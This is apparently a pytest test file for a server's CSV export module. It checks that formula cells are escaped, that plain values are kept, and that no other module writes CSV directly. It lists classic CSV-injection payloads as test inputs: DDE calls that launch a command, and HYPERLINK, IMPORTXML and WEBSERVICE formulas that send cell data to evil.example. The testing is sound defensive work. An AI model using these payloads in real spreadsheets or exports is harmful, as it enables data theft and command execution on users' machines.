"""services.csvfile, the one CSV writer of the server (issue 22): formula cells escaped,
numbers and plain text unchanged, and nothing else in server/ calls csv.writer."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pytest

from server.services import csvfile

SERVER = Path(__file__).resolve().parents[2] / "server"
NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?\Z")

# The classic payloads (OWASP's CSV injection page, Kettle's "Comma Separated
# Vulnerabilities" and what followed): each starts a formula in some spreadsheet.
CLASSIC_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]
# Each character that starts a formula, alone in front of harmless text.
LEADING = ["=x", "+x", "-x", "@x", "\tx", "\rx", "\nx"]
HOSTILE = CLASSIC_PAYLOADS + LEADING


def unsafe_cells(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run as a formula (none, if the file
    was written by services.csvfile). Reading the file also checks that it parses."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(csvfile.FORMULA_STARTS) and not NUMBER.match(cell)]


def test_every_hostile_cell_is_escaped_and_reads_back_with_its_text():
    text = csvfile.text([["name", "note"], *([value, "ok"] for value in HOSTILE)])
    assert unsafe_cells(text) == []
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(HOSTILE)  # no payload broke a row in two
    for value, (name, note) in zip(HOSTILE, rows[1:]):
        assert name == "'" + value.replace("\r", "\n") and note == "ok"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    # The csv module leaves a bare CR unquoted with "\n" line endings; a spreadsheet
    # would end the row there and run "=cmd..." as the next row's first cell.
    text = csvfile.text([["Sec 1\r=cmd|' /C calc'!A0", "x"], ["a\r\nb", "y"]])
    assert text == "\"Sec 1\n=cmd|' /C calc'!A0\",x\n\"a\nb\",y\n"
    assert list(csv.reader(io.StringIO(text))) == [["Sec 1\n=cmd|' /C calc'!A0", "x"],
                                                   ["a\nb", "y"]]


def test_numbers_plain_text_and_empty_cells_are_written_as_they_are():
    rows = [["Student", "ID", "Homework (12)"], ["Points Possible", "", "100"],
            ['"Lovelace, Ada"', None, "83.33"], ["-0.5", -3, 2.5], ["'=already", 0, True]]
    assert csvfile.text(rows) == ('Student,ID,Homework (12)\nPoints Possible,,100\n'
                                  '"""Lovelace, Ada""",,83.33\n-0.5,-3,2.5\n'
                                  "'=already,0,True\n")
    assert csvfile.safe_cell("-1.5e3") == "'-1.5e3"  # not a plain decimal: escaped
    assert csvfile.safe_cell("-12") == "-12"


def test_other_cell_types_are_a_programming_error():
    with pytest.raises(TypeError, match="not bytes"):
        csvfile.text([[b"=1+1"]])


def test_pieces_are_the_same_text_in_parts():
    rows = [[f"=r{k}", k] for k in range(7)]
    parts = list(csvfile.pieces(rows, rows_per_piece=3))
    assert [part.count("\n") for part in parts] == [3, 3, 1]
    assert "".join(parts) == csvfile.text(rows)
    assert list(csvfile.pieces([])) == []


def _csv_writer_calls(path: Path) -> list[str]:
    """Where a module makes a csv writer: csv.writer/DictWriter however csv was
    imported, or those names imported from csv."""
    tree = ast.parse(path.read_text(), str(path))
    csv_names = {"csv"}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            csv_names |= {alias.asname for alias in node.names
                          if alias.name == "csv" and alias.asname}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"{path}:{node.lineno}: from csv import {alias.name}"
                      for alias in node.names if alias.name in ("writer", "DictWriter", "*")]
    for node in ast.walk(tree):
        if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name) and node.value.id in csv_names):
            found.append(f"{path}:{node.lineno}: {node.value.id}.{node.attr}")
    return found


def test_nothing_in_server_but_csvfile_makes_a_csv_writer():
    allowed = SERVER / "services" / "csvfile.py"
    modules = sorted(SERVER.rglob("*.py"))
    assert len(modules) > 50
    assert _csv_writer_calls(allowed)  # the check sees the one writer there is
    offenders = [call for path in modules if path != allowed for call in _csv_writer_calls(path)]
    assert offenders == [], "write CSV with server.services.csvfile, not csv.writer"


def test_the_writer_check_sees_every_spelling(tmp_path):
    module = tmp_path / "m.py"
    module.write_text("import csv as c\nfrom csv import DictWriter\nw = c.writer(f)\n"
                      "r = c.reader(f)\n")
    assert [call.split(": ", 1)[1] for call in _csv_writer_calls(module)] == [
        "from csv import DictWriter", "c.writer"]
